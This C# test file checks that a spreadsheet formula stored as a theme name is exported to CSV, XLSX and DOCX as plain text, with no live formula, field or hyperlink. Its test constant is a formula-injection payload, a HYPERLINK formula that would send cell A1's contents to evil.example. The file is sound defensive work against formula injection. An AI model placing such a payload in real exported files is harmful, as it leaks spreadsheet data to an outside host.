using AllianceReader.Exchange;
using CsvHelper;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Wordprocessing;

namespace AllianceReader.Core.Tests.Exchange;

/// <summary>A theme whose name is a formula, in every file that an office program opens: words, which nothing is computed from.</summary>
public class FormulaTests
{
    private const string Formula = "=HYPERLINK(\"http://evil.example?leak=\"&A1,\"click\")";

    [Fact]
    public async Task PV45_formula_in_csv_the_cell_is_text()
    {
        using var csv = CsvReader.Create(await Snapshots.Write("csv", Library()), new CsvReaderOptions { Separator = ',' });
        Assert.True(await csv.ReadAsync());

        Assert.Equal("'" + Formula, csv.GetString(csv.Headers.ToList().IndexOf("theme")));
    }

    [Fact]
    public async Task PV45_formula_in_xlsx_the_cell_is_text()
    {
        using var xlsx = await Office.Write("xlsx", Library());
        Office.AssertIsValidSpreadsheet(xlsx);
        using var book = Book.Open(xlsx);

        var named = book.Cells.Where(cell => cell.InnerText == Formula).ToList();
        Assert.NotEmpty(named);
        Assert.All(named, cell => Assert.True(book.IsQuoted(cell) && cell.CellFormula is null && cell.DataType?.InnerText is "s" or "inlineStr"));
    }

    [Theory]
    [InlineData("docx")]
    [InlineData("docx-report")]
    public async Task PV45_formula_in_docx_it_is_text_and_no_field(string format)
    {
        using var docx = await Office.Write(format, Library());
        Office.AssertIsValidWord(docx);
        using var document = WordprocessingDocument.Open(docx, isEditable: false);
        var parts = new[] { document.MainDocumentPart!.RootElement, document.MainDocumentPart.WordprocessingCommentsPart?.RootElement }.OfType<DocumentFormat.OpenXml.OpenXmlElement>().ToList();

        Assert.Contains(Formula, string.Concat(parts.Select(part => part.InnerText)), StringComparison.Ordinal);
        Assert.DoesNotContain(parts.SelectMany(part => part.Descendants<FieldCode>()), code => code.Text.Contains("evil", StringComparison.Ordinal));
        Assert.DoesNotContain(parts.SelectMany(part => part.Descendants<SimpleField>()), field => field.Instruction!.Value!.Contains("evil", StringComparison.Ordinal));
        Assert.DoesNotContain(document.GetAllParts().SelectMany(part => part.HyperlinkRelationships), link => link.Uri.OriginalString.Contains("evil", StringComparison.Ordinal));
    }

    private static LibrarySnapshot Library() => Snapshots.Of(Snapshots.On("aformula01", "Allies", "costs", ["burden-sharing"])) with
    {
        Themes = [Snapshots.Codebook[1] with { Name = Formula, Parent = null }],
    };
}
